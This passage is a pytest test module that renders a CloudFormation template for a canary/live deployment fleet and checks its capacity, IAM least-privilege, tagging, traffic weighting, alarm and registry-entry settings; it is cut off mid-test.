"""fleet/template.yaml: what each application's stack promises, read from the template itself.

Intrinsic functions are evaluated by the small resolver below (Ref, Fn::Sub, Fn::If,
Fn::Join, Fn::Split, Fn::Select, conditions) so that the user data and the registry entry
are checked as CloudFormation would render them for a given set of parameters.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from canaryfleet.adapters.drains import DELIVERY_TIMEOUT_SECONDS
from canaryfleet.errors import ConfigurationError
from canaryfleet.models.app_config import AppConfig, integer_bounds, read_registry_entry
from canaryfleet.models.artifact import APP_NAME_PATTERN
from canaryfleet.models.drain import LIFECYCLE_BUDGET

from canaryfleet_local import cloudformation_rules as rules
from canaryfleet_local.parsing import parse_template
from canaryfleet_local.standins.cloudwatch_metric_math import (
    check_put_metric_alarm,
    evaluate,
    parse_expression,
)

TEMPLATE = Path(__file__).resolve().parents[2] / "fleet" / "template.yaml"
ACCOUNT = "123456789012"
REGION = "eu-west-1"
ELB = f"arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}"
LISTENER_ARN = f"{ELB}:listener/app/shared-alb/50dc6c495c0c9188/f2f7dc8efc522ab2"
NO_VALUE = object()
# The tag the platform's roles require on the resources they act on (template.yaml's conditions).
FLEET_TAG_KEY = "canaryfleet:application"
SIDES = ("Canary", "Live")


@pytest.fixture(scope="module")
def template() -> dict[str, Any]:
    parsed: dict[str, Any] = parse_template(TEMPLATE.read_text())
    return parsed


def resources_of(template: dict[str, Any], kind: str) -> dict[str, dict[str, Any]]:
    return {name: r for name, r in template["Resources"].items() if r["Type"] == kind}


def props(template: dict[str, Any], logical_id: str) -> dict[str, Any]:
    properties: dict[str, Any] = template["Resources"][logical_id]["Properties"]
    return properties


@dataclass
class Stack:
    """The template with parameter values: evaluates intrinsics as CloudFormation would."""

    template: dict[str, Any]
    parameters: dict[str, str] = field(default_factory=dict)

    def parameter(self, name: str) -> Any:
        spec = self.template["Parameters"][name]
        raw = self.parameters.get(name, spec.get("Default"))
        assert raw is not None, f"parameter {name} has no value"
        value = str(raw)
        if spec["Type"] == "CommaDelimitedList" or spec["Type"].startswith("List<"):
            return value.split(",")
        return value

    def physical_id(self, logical_id: str) -> str:
        kind = self.template["Resources"][logical_id]["Type"]
        if kind == "AWS::ElasticLoadBalancingV2::TargetGroup":
            return f"{ELB}:targetgroup/tg-{logical_id}/0123456789abcdef"
        if kind == "AWS::ElasticLoadBalancingV2::ListenerRule":
            return LISTENER_ARN.replace(":listener/", ":listener-rule/") + "/9683b2d02a6cabee"
        named = {
            "AWS::AutoScaling::AutoScalingGroup": "AutoScalingGroupName",
            "AWS::CodeDeploy::DeploymentGroup": "DeploymentGroupName",
            "AWS::CodeDeploy::Application": "ApplicationName",
            "AWS::CloudWatch::Alarm": "AlarmName",
            "AWS::SSM::Parameter": "Name",
        }
        if kind in named:
            value: str = self.resolve(self.template["Resources"][logical_id]["Properties"][named[kind]])
            return value
        return f"{logical_id}-physical"

    def ref(self, name: str) -> Any:
        pseudo = {"AWS::Region": REGION, "AWS::AccountId": ACCOUNT, "AWS::Partition": "aws"}
        if name in pseudo:
            return pseudo[name]
        if name == "AWS::NoValue":
            return NO_VALUE
        if name in self.template["Parameters"]:
            return self.parameter(name)
        return self.physical_id(name)

    def get_att(self, logical_id: str, attribute: str) -> str:
        if attribute == "TargetGroupName":
            return f"tg-{logical_id}"
        if attribute == "TargetGroupFullName":
            return f"targetgroup/tg-{logical_id}/0123456789abcdef"
        return f"{logical_id}.{attribute}"

    def condition(self, name: str) -> bool:
        return bool(self.resolve(self.template["Conditions"][name]))

    def sub(self, text: str, variables: dict[str, Any]) -> str:
        def replace(match: re.Match[str]) -> str:
            name = match.group(1)
            if name.startswith("!"):
                return "${" + name[1:] + "}"
            if name in variables:
                return str(self.resolve(variables[name]))
            if "." in name and not name.startswith("AWS::"):
                return self.get_att(*name.split(".", 1))
            value = self.ref(name)
            return ",".join(value) if isinstance(value, list) else str(value)

        return re.sub(r"\$\{([^}]+)\}", replace, text)

    def resolve(self, node: Any) -> Any:
        if isinstance(node, list):
            return [item for item in (self.resolve(i) for i in node) if item is not NO_VALUE]
        if not isinstance(node, dict):
            return node
        if len(node) == 1:
            (function, argument), *_ = node.items()
            if function == "Ref":
                return self.ref(argument)
            if function == "Fn::GetAtt":
                return self.get_att(*argument)
            if function == "Fn::Sub":
                text, variables = (argument, {}) if isinstance(argument, str) else argument
                return self.sub(text, variables)
            if function == "Fn::If":
                name, when_true, when_false = argument
                return self.resolve(when_true if self.condition(name) else when_false)
            if function == "Fn::Join":
                separator, items = argument
                return separator.join(str(item) for item in self.resolve(items))
            if function == "Fn::Split":
                separator, text = argument
                return str(self.resolve(text)).split(separator)
            if function == "Fn::Select":
                index, items = argument
                return self.resolve(items)[int(index)]
            if function == "Fn::Equals":
                return self.resolve(argument[0]) == self.resolve(argument[1])
            if function == "Fn::Not":
                return not self.resolve(argument[0])
            if function == "Fn::And":
                return all(self.resolve(item) for item in argument)
            if function == "Fn::Or":
                return any(self.resolve(item) for item in argument)
            if function == "Condition":
                return self.condition(argument)
            if function == "Fn::Base64":
                return self.resolve(argument)  # kept as text, to read it
        resolved = {key: self.resolve(value) for key, value in node.items()}
        return {key: value for key, value in resolved.items() if value is not NO_VALUE}


REQUIRED = {
    "Application": "orders-api",
    "AnsibleRepositoryUrl": "https://git.example.com/platform/baseline.git",
    "AnsibleBranch": "release-7",
    "ArtifactBucketName": "canaryfleet-artifacts-1",
    "LogBucketName": "canaryfleet-logs-1",
    "VpcId": "vpc-0abc",
    "SubnetIds": "subnet-0a,subnet-0b",
    "LoadBalancerSecurityGroupId": "sg-0alb",
    "ListenerArn": LISTENER_ARN,
    "ListenerRulePriority": "40",
    "HostHeaders": "orders.example.com",
}


def stack(template: dict[str, Any], **overrides: str) -> Stack:
    return Stack(template, {**REQUIRED, **overrides})


def user_data(template: dict[str, Any], **overrides: str) -> str:
    rendered = stack(template, **overrides).resolve(props(template, "LaunchTemplate"))
    script: str = rendered["LaunchTemplateData"]["UserData"]
    return script


# --- capacity -----------------------------------------------------------------------


@pytest.mark.parametrize("side", SIDES)
def test_each_group_runs_half_on_demand_half_spot_above_the_base_by_default(
    template: dict[str, Any], side: str
) -> None:
    group = stack(template).resolve(props(template, f"{side}AutoScalingGroup"))

    distribution = group["MixedInstancesPolicy"]["InstancesDistribution"]
    assert distribution["OnDemandPercentageAboveBaseCapacity"] == "50"
    assert distribution["OnDemandBaseCapacity"] == "0"
    assert distribution["SpotAllocationStrategy"] == "price-capacity-optimized"
    assert group["CapacityRebalance"] is True


def test_the_on_demand_share_and_base_are_parameters(template: dict[str, Any]) -> None:
    group = stack(template, OnDemandBaseCapacity="2", OnDemandPercentageAboveBaseCapacity="20").resolve(
        props(template, "LiveAutoScalingGroup")
    )

    distribution = group["MixedInstancesPolicy"]["InstancesDistribution"]
    assert (distribution["OnDemandBaseCapacity"], distribution["OnDemandPercentageAboveBaseCapacity"]) == (
        "2",
        "20",
    )


@pytest.mark.parametrize(
    "types",
    ["m7i.large", "c6i.xlarge,c6a.xlarge", "m7i.large,m6i.large,m6a.large,m5.large,m5a.large,m5n.large"],
)
def test_each_instance_type_given_becomes_one_override(template: dict[str, Any], types: str) -> None:
    for side in SIDES:
        group = stack(template, InstanceTypes=types).resolve(props(template, f"{side}AutoScalingGroup"))

        overrides = group["MixedInstancesPolicy"]["LaunchTemplate"]["Overrides"]
        assert [o["InstanceType"] for o in overrides] == types.split(",")


def test_several_instance_types_by_default(template: dict[str, Any]) -> None:
    spec = template["Parameters"]["InstanceTypes"]

    assert len(spec["Default"].split(",")) >= 3
    assert re.match(spec["AllowedPattern"], spec["Default"])
    assert not re.match(spec["AllowedPattern"], "a.large,b.large,c.large,d.large,e.large,f.large,g.large")


@pytest.mark.parametrize("side", SIDES)
def test_each_group_has_a_termination_hook_for_the_drain(template: dict[str, Any], side: str) -> None:
    group = stack(template).resolve(props(template, f"{side}AutoScalingGroup"))

    (hook,) = group["LifecycleHookSpecificationList"]
    assert hook["LifecycleTransition"] == "autoscaling:EC2_INSTANCE_TERMINATING"
    assert hook["DefaultResult"] == "CONTINUE"
    assert hook["HeartbeatTimeout"] == "300"
    raw = props(template, f"{side}AutoScalingGroup")["LifecycleHookSpecificationList"][0]
    assert raw["HeartbeatTimeout"] == {"Ref": "TerminationHookHeartbeatTimeout"}
    assert raw["DefaultResult"] == {"Ref": "TerminationHookDefaultResult"}
    assert template["Parameters"]["TerminationHookDefaultResult"]["AllowedValues"] == ["CONTINUE", "ABANDON"]


def test_a_termination_hook_waits_at_least_as_long_as_the_drain_takes(template: dict[str, Any]) -> None:
    # Auto Scaling applies the hook's DefaultResult when it times out (API_LifecycleHook): both
    # results terminate the instance, so the hook must outlast the document's delivery and run.
    heartbeat = template["Parameters"]["TerminationHookHeartbeatTimeout"]

    assert heartbeat["MinValue"] >= DELIVERY_TIMEOUT_SECONDS + LIFECYCLE_BUDGET.execution_seconds
    assert heartbeat["Default"] >= heartbeat["MinValue"]


@pytest.mark.parametrize(("side", "role"), [("Canary", "canary"), ("Live", "live")])
def test_each_group_tags_itself_and_its_instances_with_application_and_role(
    template: dict[str, Any], side: str, role: str
) -> None:
    group = stack(template).resolve(props(template, f"{side}AutoScalingGroup"))

    # The platform's drain completes lifecycle actions of a group, and runs commands on an
    # instance, only if it carries canaryfleet:application (its roles' tag conditions).
    tags = {t["Key"]: (t["Value"], t["PropagateAtLaunch"]) for t in group["Tags"]}
    assert tags == {
        "application": ("orders-api", True),
        FLEET_TAG_KEY: ("orders-api", True),
        "role": (role, True),
    }
    assert group["TargetGroupARNs"] == [stack(template).physical_id(f"{side}TargetGroup")]


# --- instances ----------------------------------------------------------------------


def test_instances_require_imdsv2_with_a_hop_limit_of_one(template: dict[str, Any]) -> None:
    metadata = props(template, "LaunchTemplate")["LaunchTemplateData"]["MetadataOptions"]

    assert metadata["HttpTokens"] == "required"
    assert metadata["HttpPutResponseHopLimit"] == 1
    assert metadata["HttpEndpoint"] == "enabled"


def test_the_image_is_amazon_linux_2023_from_the_public_parameter(template: dict[str, Any]) -> None:
    spec = template["Parameters"]["ImageId"]

    assert spec["Type"] == "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>"
    assert spec["Default"] == "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
    assert props(template, "LaunchTemplate")["LaunchTemplateData"]["ImageId"] == {"Ref": "ImageId"}


def test_only_the_load_balancer_reaches_the_instances(template: dict[str, Any]) -> None:
    (rule,) = props(template, "InstanceSecurityGroup")["SecurityGroupIngress"]

    assert rule["SourceSecurityGroupId"] == {"Ref": "LoadBalancerSecurityGroupId"}
    assert "CidrIp" not in rule


def test_the_root_volume_is_encrypted(template: dict[str, Any]) -> None:
    (device,) = props(template, "LaunchTemplate")["LaunchTemplateData"]["BlockDeviceMappings"]

    assert device["Ebs"]["Encrypted"] is True


# --- permissions --------------------------------------------------------------------


def _statements(rendered_role: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for policy in rendered_role.get("Policies", []) for s in policy["PolicyDocument"]["Statement"]]


def _as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def test_the_platforms_codedeploy_event_rule_matches_the_fleets_deployment_groups_only(
    template: dict[str, Any],
) -> None:
    platform = parse_template((TEMPLATE.parent.parent / "template.yaml").read_text())
    rule = platform["Resources"]["DeploymentEventFunction"]["Properties"]["Events"]["DeploymentStateChanged"]
    suffixes = [m["suffix"] for m in rule["Properties"]["Pattern"]["detail"]["deploymentGroup"]]

    names = [props(template, f"{side}DeploymentGroup")["DeploymentGroupName"]["Fn::Sub"] for side in SIDES]

    assert names == ["${Application}-canary", "${Application}-live"]
    assert suffixes == ["-canary", "-live"], "a renamed group's events would reach no rollout"


@pytest.mark.parametrize("strategy", ["in_place", "blue_green"])
def test_no_statement_grants_more_than_the_application_prefix_of_the_log_bucket(
    template: dict[str, Any], strategy: str
) -> None:
    rendered = stack(template, Strategy=strategy)
    statements = [
        s
        for role in resources_of(template, "AWS::IAM::Role")
        for s in _statements(rendered.resolve(props(template, role)))
    ]

    assert statements
    for statement in statements:
        actions = _as_list(statement["Action"])
        resources = [str(r) for r in _as_list(statement["Resource"])]
        assert "*" not in actions and "s3:*" not in actions
        assert not any(a.startswith("s3:") and "*" in a for a in actions)
        for resource in resources:
            if "canaryfleet-logs-1" in resource:
                assert resource == "arn:aws:s3:::canaryfleet-logs-1/orders-api/*"
            if resource.startswith("arn:aws:s3:::"):
                assert resource.endswith("/orders-api/*"), resource
        if any(a.startswith("s3:Put") for a in actions):
            assert actions == ["s3:PutObject"]
            assert resources == ["arn:aws:s3:::canaryfleet-logs-1/orders-api/*"]


def test_the_instance_role_has_ssm_core_and_reads_only_its_own_artifacts(template: dict[str, Any]) -> None:
    role = stack(template).resolve(props(template, "InstanceRole"))

    assert role["ManagedPolicyArns"] == ["arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"]
    reads = [s for s in _statements(role) if "s3:GetObject" in _as_list(s["Action"])]
    assert [s["Resource"] for s in reads] == ["arn:aws:s3:::canaryfleet-artifacts-1/orders-api/*"]


def test_an_instance_may_set_only_the_version_tag_of_its_own_application(template: dict[str, Any]) -> None:
    role = stack(template).resolve(props(template, "InstanceRole"))

    (tagging,) = [s for s in _statements(role) if s["Action"] == "ec2:CreateTags"]
    assert tagging["Condition"] == {
        "StringEquals": {"aws:ResourceTag/application": "orders-api"},
        "ForAllValues:StringEquals": {"aws:TagKeys": ["version"]},
    }


def test_codedeploy_may_launch_tag_and_pass_the_role_that_launch_template_groups_need(
    template: dict[str, Any],
) -> None:
    # CodeDeploy User Guide, "Step 2: Create a service role for CodeDeploy": a group created with
    # a launch template needs ec2:RunInstances, ec2:CreateTags and iam:PassRole beyond
    # AWSCodeDeployRole.
    role = stack(template).resolve(props(template, "CodeDeployServiceRole"))
    granted = {action: s for s in _statements(role) for action in _as_list(s["Action"])}

    assert role["ManagedPolicyArns"] == ["arn:aws:iam::aws:policy/service-role/AWSCodeDeployRole"]
    assert set(granted) == {"ec2:RunInstances", "ec2:CreateTags", "iam:PassRole"}
    # and each only as far as the fleet needs: its own launch template, tags at launch, its
    # own instance role to EC2
    launch_template = granted["ec2:RunInstances"]["Condition"]["ArnLike"]["ec2:LaunchTemplate"]
    assert re.fullmatch(rf"arn:aws:ec2:{REGION}:{ACCOUNT}:launch-template/\S+", launch_template)
    assert not launch_template.endswith("*")
    assert granted["ec2:CreateTags"]["Condition"] == {"StringEquals": {"ec2:CreateAction": "RunInstances"}}
    passed_to = granted["iam:PassRole"]["Condition"]
    assert passed_to == {"StringEquals": {"iam:PassedToService": "ec2.amazonaws.com"}}
    assert "InstanceRole" in str(granted["iam:PassRole"]["Resource"])


@pytest.mark.parametrize(
    ("strategy", "sides"), [("in_place", ("canary", "live")), ("blue_green", ("green", "blue"))]
)
def test_the_dashboard_weighs_canary_against_live_by_their_own_target_groups(
    template: dict[str, Any], strategy: str, sides: tuple[str, str]
) -> None:
    # Given the dashboard's body as CloudFormation renders it (valid JSON, or PutDashboard fails)
    rendered = stack(template, Strategy=strategy).resolve(props(template, "Dashboard"))
    widgets = json.loads(rendered["DashboardBody"])["widgets"]
    load_balancer = "app/shared-alb/50dc6c495c0c9188"

    # Then every load balancer metric names one of the stack's two target groups and its load
    # balancer, as the alarms do (no search by a name CloudFormation makes up)
    groups = {
        "canary": "targetgroup/tg-CanaryTargetGroup/0123456789abcdef",
        "live": "targetgroup/tg-LiveTargetGroup/0123456789abcdef",
    }
    charts = [w for w in widgets if w["type"] == "metric"]
    series = [m for w in charts for m in w["properties"]["metrics"]]
    metrics = [m for m in series if isinstance(m[0], str)]
    assert rendered["DashboardName"] == "canaryfleet-orders-api"
    assert all(w["properties"]["region"] == REGION for w in charts)
    assert not any("SEARCH" in json.dumps(m) for m in series)
    assert metrics and all(m[0] == "AWS/ApplicationELB" and m[2] == "TargetGroup" for m in metrics)
    assert {m[3] for m in metrics} == set(groups.values())
    assert all(m[4:6] == ["LoadBalancer", load_balancer] for m in metrics)
    # each chart shows both sides, named as the strategy names them
    for chart in charts:
        labels = " ".join(str(m[-1].get("label", "")) for m in chart["properties"]["metrics"])
        assert all(side in labels for side in sides), chart["properties"]["title"]
    # and the alarm widget shows the six alarms that stop deployments and end bakes
    (alarm_widget,) = [w for w in widgets if w["type"] == "alarm"]
    alarms = resources_of(template, "AWS::CloudWatch::Alarm")
    assert sorted(alarm_widget["properties"]["alarms"]) == sorted(f"{name}.Arn" for name in alarms)


# --- traffic ------------------------------------------------------------------------


def test_the_listener_rule_forwards_all_traffic_to_live_and_none_to_canary(template: dict[str, Any]) -> None:
    (action,) = props(template, "ListenerRule")["Actions"]

    weights = {g["TargetGroupArn"]["Ref"]: g["Weight"] for g in action["ForwardConfig"]["TargetGroups"]}
    assert action["Type"] == "forward"
    assert weights == {"LiveTargetGroup": 100, "CanaryTargetGroup": 0}
    assert props(template, "ListenerRule")["ListenerArn"] == {"Ref": "ListenerArn"}


@pytest.mark.parametrize("logical_id", ["ListenerRule", "CanaryTargetGroup", "LiveTargetGroup"])
def test_the_rule_and_the_target_groups_carry_the_application_tag_the_platform_requires(
    template: dict[str, Any], logical_id: str
) -> None:
    # Given the stack of orders-api
    resource = stack(template).resolve(props(template, logical_id))

    # Then the rule (whose weights the rollout modifies) and each target group (whose targets the
    # drain deregisters) carry canaryfleet:application, or the platform's roles may not touch them
    tags = {t["Key"]: t["Value"] for t in resource["Tags"]}
    assert tags[FLEET_TAG_KEY] == "orders-api"
    assert tags["application"] == "orders-api"


def test_whatever_the_stack_tags_with_its_application_also_carries_the_platform_tag(
    template: dict[str, Any],
) -> None:
    # Given every tag list in the stack, launch template tag specifications included
    def tag_lists(node: Any) -> list[list[dict[str, Any]]]:
        if isinstance(node, dict):
            found = [node["Tags"]] if isinstance(node.get("Tags"), list) else []
            return found + [t for value in node.values() for t in tag_lists(value)]
        if isinstance(node, list):
            return [t for item in node for t in tag_lists(item)]
        return []

    lists = tag_lists(stack(template).resolve(template["Resources"]))

    # Then the one key canaryfleet owns goes wherever the application tag goes, with the same value
    pairs = [
        (
            {t["Key"]: t["Value"] for t in tags}.get("application"),
            {t["Key"]: t["Value"] for t in tags}.get(FLEET_TAG_KEY),
        )
        for tags in lists
    ]
    assert pairs
    assert all(application == "orders-api" and fleet == application for application, fleet in pairs), pairs


@pytest.mark.parametrize(
    ("hosts", "paths", "fields"),
    [
        ("orders.example.com", "", ["host-header"]),
        ("", "/orders/*", ["path-pattern"]),
        ("orders.example.com,orders.example.org", "/orders/*", ["host-header", "path-pattern"]),
    ],
)
def test_the_rule_matches_the_hosts_and_paths_given(
    template: dict[str, Any], hosts: str, paths: str, fields: list[str]
) -> None:
    rule = stack(template, HostHeaders=hosts, PathPatterns=paths).resolve(props(template, "ListenerRule"))

    assert [c["Field"] for c in rule["Conditions"]] == fields
    values = [
        v
        for c in rule["Conditions"]
        for config in c.values()
        if isinstance(config, dict)
        for v in config["Values"]
    ]
    assert values == [v for v in (hosts.split(",") + paths.split(",")) if v]


@pytest.mark.parametrize("side", SIDES)
def test_each_target_group_checks_health_and_drains_briefly(template: dict[str, Any], side: str) -> None:
    group = stack(template).resolve(props(template, f"{side}TargetGroup"))

    assert group["HealthCheckEnabled"] is True
    assert group["HealthCheckPath"] == "/"
    assert group["Port"] == "8080"
    assert group["TargetGroupAttributes"] == [{"Key": "deregistration_delay.timeout_seconds", "Value": "30"}]


# --- deployments and alarms ---------------------------------------------------------


@pytest.mark.parametrize("side", SIDES)
def test_each_deployment_group_is_bound_to_its_own_group_and_target_group(
    template: dict[str, Any], side: str
) -> None:
    group = props(template, f"{side}DeploymentGroup")

    assert group["AutoScalingGroups"] == [{"Ref": f"{side}AutoScalingGroup"}]
    assert group["LoadBalancerInfo"]["TargetGroupInfoList"] == [
        {"Name": {"Fn::GetAtt": [f"{side}TargetGroup", "TargetGroupName"]}}
    ]
    assert group["ApplicationName"] == {"Ref": "CodeDeployApplication"}


@pytest.mark.parametrize("side", SIDES)
def test_each_deployment_group_rolls_back_on_failure_and_on_its_own_alarms(
    template: dict[str, Any], side: str
) -> None:
    group = props(template, f"{side}DeploymentGroup")

    assert group["AutoRollbackConfiguration"] == {
        "Enabled": True,
        "Events": ["DEPLOYMENT_FAILURE", "DEPLOYMENT_STOP_ON_ALARM"],
    }
    alarms = {a["Name"]["Ref"] for a in group["AlarmConfiguration"]["Alarms"]}
    assert group["AlarmConfiguration"]["Enabled"] is True
    assert alarms == {f"{side}ErrorRateAlarm", f"{side}LatencyAlarm", f"{side}UnhealthyHostsAlarm"}


@pytest.mark.parametrize("strategy", ["in_place", "blue_green"])
def test_codedeploy_deploys_in_place_under_both_strategies_and_never_copies_a_group(
    template: dict[str, Any], strategy: str
) -> None:
    rendered = stack(template, Strategy=strategy)

    assert template["Parameters"]["Strategy"]["AllowedValues"] == ["in_place", "blue_green"]
    assert template["Parameters"]["Strategy"]["Default"] == "in_place"
    assert "DeploymentType" not in template["Parameters"]
    for side in SIDES:
        group = rendered.resolve(props(template, f"{side}DeploymentGroup"))
        assert group["DeploymentStyle"] == {
            "DeploymentType": "IN_PLACE",
            "DeploymentOption": "WITH_TRAFFIC_CONTROL",
        }
        assert "BlueGreenDeploymentConfiguration" not in group
    text = TEMPLATE.read_text()
    assert "BLUE_GREEN" not in text and "COPY_AUTO_SCALING_GROUP" not in text


@pytest.mark.parametrize(
    ("strategy", "canary", "live"),
    [
        ("in_place", {"MinSize": "1", "MaxSize": "1"}, {"MinSize": "2", "MaxSize": "6"}),
        ("blue_green", {"MinSize": 0, "MaxSize": "6"}, {"MinSize": 0, "MaxSize": "6"}),
    ],
)
def test_blue_green_colors_have_no_floor_and_no_group_has_a_desired_capacity_a_stack_update_would_reset(
    template: dict[str, Any], strategy: str, canary: dict[str, Any], live: dict[str, Any]
) -> None:
    rendered = stack(template, Strategy=strategy)

    for side, expected in (("Canary", canary), ("Live", live)):
        group = rendered.resolve(props(template, f"{side}AutoScalingGroup"))
        sizes = {k: group[k] for k in ("MinSize", "MaxSize", "DesiredCapacity") if k in group}
        assert {k: str(v) for k, v in sizes.items()} == {k: str(v) for k, v in expected.items()}


@pytest.mark.parametrize("side", SIDES)
def test_each_side_alarms_on_error_rate_latency_and_unhealthy_hosts_of_its_target_group(
    template: dict[str, Any], side: str
) -> None:
    rendered = stack(template)
    target_group = f"targetgroup/tg-{side}TargetGroup/0123456789abcdef"
    load_balancer = "app/shared-alb/50dc6c495c0c9188"

    errors = rendered.resolve(props(template, f"{side}ErrorRateAlarm"))
    stats = {m["Id"]: m["MetricStat"] for m in errors["Metrics"] if "MetricStat" in m}
    assert {s["Metric"]["MetricName"] for s in stats.values()} == {
        "HTTPCode_Target_5XX_Count",
        "RequestCount",
        "HTTPCode_Target_2XX_Count",
        "HTTPCode_Target_3XX_Count",
        "HTTPCode_Target_4XX_Count",
    }
    for stat in stats.values():
        assert {d["Name"]: d["Value"] for d in stat["Metric"]["Dimensions"]} == {
            "TargetGroup": target_group,
            "LoadBalancer": load_balancer,
        }
    (expression,) = [m for m in errors["Metrics"] if m.get("ReturnData")]
    assert "failed" in expression["Expression"] and "/ requests" in expression["Expression"]
    check_put_metric_alarm(errors)  # within PutMetricAlarm's limits (10 MetricStat, 10 Expression)

    latency = rendered.resolve(props(template, f"{side}LatencyAlarm"))
    assert (latency["MetricName"], latency["ExtendedStatistic"]) == ("TargetResponseTime", "p99")
    unhealthy = rendered.resolve(props(template, f"{side}UnhealthyHostsAlarm"))
    assert unhealthy["MetricName"] == "UnHealthyHostCount"
    for alarm in (latency, unhealthy):
        assert {d["Name"]: d["Value"] for d in alarm["Dimensions"]}["TargetGroup"] == target_group


def error_rate(alarm: dict[str, Any], minute: dict[str, float]) -> float | None:
    """The error-rate alarm's value for one minute whose datapoints are ``minute`` (by metric
    name; a metric absent from it has no datapoint), its expressions evaluated in order."""
    values: dict[str, float | None] = {
        m["Id"]: minute.get(m["MetricStat"]["Metric"]["MetricName"])
        for m in alarm["Metrics"]
        if "MetricStat" in m
    }
    for query in alarm["Metrics"]:
        if "Expression" in query:
            values[query["Id"]] = evaluate(parse_expression(query["Expression"]), values)
    (returned,) = [m["Id"] for m in alarm["Metrics"] if m.get("ReturnData")]
    return values[returned]


REQUESTS, OK, CLIENT, TARGET_5XX = (
    "RequestCount",
    "HTTPCode_Target_2XX_Count",
    "HTTPCode_Target_4XX_Count",
    "HTTPCode_Target_5XX_Count",
)


@pytest.mark.parametrize("side", SIDES)
@pytest.mark.parametrize(
    ("minute", "percent"),
    [
        ({REQUESTS: 1000, OK: 995, TARGET_5XX: 5}, 0.5),
        # A build that resets or drops half its connections: the load balancer answers them 502
        # or 504 itself, and the targets send no 5xx datapoint at all
        ({REQUESTS: 1000, OK: 500}, 50.0),
        # The targets' own 5xx are not counted twice, nor 4xx counted as failures
        ({REQUESTS: 1000, OK: 900, TARGET_5XX: 100}, 10.0),
        ({REQUESTS: 1000, OK: 500, CLIENT: 500}, 0.0),
        # Both: 100 target 5xx and 100 answered by the load balancer
        ({REQUESTS: 1000, OK: 800, TARGET_5XX: 100}, 20.0),
        # Every request failed, none answered: no datapoint but the requests
        ({REQUESTS: 40}, 100.0),
        # Too few requests to judge (AlarmMinRequestCount, 10 by default)
        ({REQUESTS: 9}, 0.0),
    ],
    ids=["healthy", "connections-reset", "target-5xx", "client-4xx", "both", "none-answered", "too-few"],
)
def test_each_sides_error_rate_counts_the_requests_the_load_balancer_answered_itself(
    template: dict[str, Any], side: str, minute: dict[str, float], percent: float
) -> None:
    alarm = stack(template).resolve(props(template, f"{side}ErrorRateAlarm"))

    assert error_rate(alarm, minute) == pytest.approx(percent)


@pytest.mark.parametrize("side", SIDES)
def test_an_application_of_websocket_traffic_counts_its_targets_5xx_alone(
    template: dict[str, Any], side: str
) -> None:
    # Given an application whose upgrades are answered 101, in no HTTPCode_Target metric
    alarm = stack(template, ErrorRateCountsUnanswered="false").resolve(
        props(template, f"{side}ErrorRateAlarm")
    )

    # Then only its targets' 5xx count as failed
    assert error_rate(alarm, {REQUESTS: 1000, OK: 500}) == 0.0
    assert error_rate(alarm, {REQUESTS: 1000, OK: 400, TARGET_5XX: 100}) == pytest.approx(10.0)
    assert "target 5xx responses" in alarm["AlarmDescription"]


def dashboard_error_rates(rendered: Stack, minute: dict[str, float]) -> dict[str, float | None]:
    """The dashboard's error-rate chart, each side's value for one minute whose datapoints are
    ``minute`` (the same for both sides), by the series' label."""
    widgets = json.loads(rendered.resolve(props(rendered.template, "Dashboard"))["DashboardBody"])["widgets"]
    chart = next(w for w in widgets if "per request" in w["properties"]["title"])
    series = chart["properties"]["metrics"]
    values: dict[str, float | None] = {m[-1]["id"]: minute.get(m[1]) for m in series if isinstance(m[0], str)}
    rates: dict[str, float | None] = {}
    for [query] in (m for m in series if not isinstance(m[0], str)):
        values[query["id"]] = evaluate(parse_expression(query["expression"]), values)
        if query.get("visible", True):
            rates[query["label"]] = values[query["id"]]
    return rates


@pytest.mark.parametrize("counts_unanswered", ["true", "false"])
@pytest.mark.parametrize(
    "minute",
    [{REQUESTS: 1000, OK: 500}, {REQUESTS: 1000, OK: 800, TARGET_5XX: 100}, {REQUESTS: 1000, OK: 999}],
    ids=["connections-reset", "both", "healthy"],
)
def test_the_dashboards_error_rate_is_what_each_sides_alarm_watches(
    template: dict[str, Any], counts_unanswered: str, minute: dict[str, float]
) -> None:
    rendered = stack(template, ErrorRateCountsUnanswered=counts_unanswered)

    charted = dashboard_error_rates(rendered, minute)

    for side in SIDES:
        alarm = rendered.resolve(props(template, f"{side}ErrorRateAlarm"))
        assert charted[side.lower()] == pytest.approx(error_rate(alarm, minute))


def test_a_minute_without_requests_is_missing_data_not_a_breach(template: dict[str, Any]) -> None:
    alarm = stack(template).resolve(props(template, "CanaryErrorRateAlarm"))

    assert error_rate(alarm, {}) is None
    assert alarm["TreatMissingData"] == "notBreaching"


def test_the_log_sync_runs_hourly_on_every_instance_of_the_application(template: dict[str, Any]) -> None:
    association = stack(template).resolve(props(template, "LogSyncAssociation"))

    assert association["Name"] == "canaryfleet-drain"
    assert association["ScheduleExpression"] == "cron(0 0/1 * * ? *)"
    assert association["Targets"] == [{"Key": "tag:application", "Values": ["orders-api"]}]
    assert association["Parameters"] == {"Mode": ["sync"]}


# --- the registry entry -------------------------------------------------------------


def test_the_registry_entry_is_an_app_config_with_every_name_and_arn(template: dict[str, Any]) -> None:
    rendered = stack(template)
    entry = rendered.resolve(props(template, "RegistryEntry"))

    config = AppConfig.model_validate_json(entry["Value"])

    assert entry["Name"] == "/canaryfleet/apps/orders-api"
    assert config.application == "orders-api"
    assert config.codedeploy_application == "orders-api"
    assert config.listener_rule_arn == rendered.physical_id("ListenerRule")
    for side, group in (("Canary", config.canary), ("Live", config.live)):
        assert group.deployment_group == f"orders-api-{side.lower()}"
        assert group.auto_scaling_group == f"orders-api-{side.lower()}"
        assert group.target_group_arn == rendered.physical_id(f"{side}TargetGroup")
        assert group.alarms == (
            f"orders-api-{side.lower()}-5xx-rate",
            f"orders-api-{side.lower()}-latency-p99",
            f"orders-api-{side.lower()}-unhealthy-hosts",
        )
    assert config.approvers.emails == () and config.approvers.slack_channel is None
    assert config.policy is None and config.drain_on_rebalance is False
    assert config.log_prefix == "orders-api/"


def test_the_registry_entry_carries_approvers_channel_policy_and_rebalance_setting(
    template: dict[str, Any],
) -> None:
    policy = {"steps": [{"kind": "set_weight", "weight": 10}, {"kind": "bake", "duration_seconds": 300}]}
    rendered = stack(
        template,
        ApproverEmails="ana@example.com,bo@example.com",
